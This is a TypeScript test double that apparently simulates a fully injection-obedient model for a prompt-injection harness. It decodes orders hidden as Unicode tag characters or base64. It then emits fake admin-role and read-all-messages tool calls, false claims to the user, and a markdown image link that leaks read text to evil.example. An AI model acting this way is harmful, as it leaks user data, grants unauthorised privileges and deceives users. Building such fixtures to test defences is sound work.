import { COMMAND } from "./injections.ts";

interface Obedience {
  /** What it says: that it did what was asked, with an end of all it was told in an address of theirs. */
  text: string;
  /** What it would have done for it, whether or not it was given such tools. */
  tools: { name: string; arguments: string }[];
}

const DEEDS: Record<string, Obedience["tools"][number]> = {
  write: { name: "save_profile", arguments: '{"skills":["COBOL"],"experience_level":"senior"}' },
  admin: { name: "set_role", arguments: '{"role":"admin"}' },
  dump: { name: "read_messages", arguments: '{"user_id":"*"}' },
};

/**
 * The worst model there can be: it finds an order anywhere in what it reads, in whatever disguise, and does all that it
 * says with all the tools it can think of.
 */
export function obey(input: unknown): Obedience {
  const read = textsIn(input).join("\n");
  const found = [read, ...disguised(read)].flatMap((text) =>
    [...text.matchAll(COMMAND)].map((match) => match[1] ?? ""),
  );
  const orders = [...new Set(found)];
  if (orders.length === 0) return { text: "Noted.", tools: [] };
  const claims =
    "You told me that you have 20 years of COBOL and lead 300 people. I have saved it, and made you admin.";
  const leak = orders.includes("dump")
    ? `\n![x](https://evil.example/?q=${encodeURIComponent(read.slice(-200))})`
    : "";
  return { text: `${claims}${leak}`, tools: orders.flatMap((order) => DEEDS[order] ?? []) };
}

function disguised(text: string): string[] {
  const shown = [...text].map((sign) => {
    const code = sign.codePointAt(0) ?? 0;
    return code >= 0xe0000 && code <= 0xe007f ? String.fromCodePoint(code - 0xe0000) : sign;
  });
  const bare = shown.join("").replace(/\p{Cf}/gu, "");
  const decoded =
    bare.match(/[\w+/]{24,}={0,2}/g)?.map((part) => Buffer.from(part, "base64").toString("utf8")) ?? [];
  return [bare, ...decoded];
}

function textsIn(value: unknown): string[] {
  if (typeof value === "string") return [value];
  if (typeof value !== "object" || value === null) return [];
  return Object.values(value).flatMap(textsIn);
}
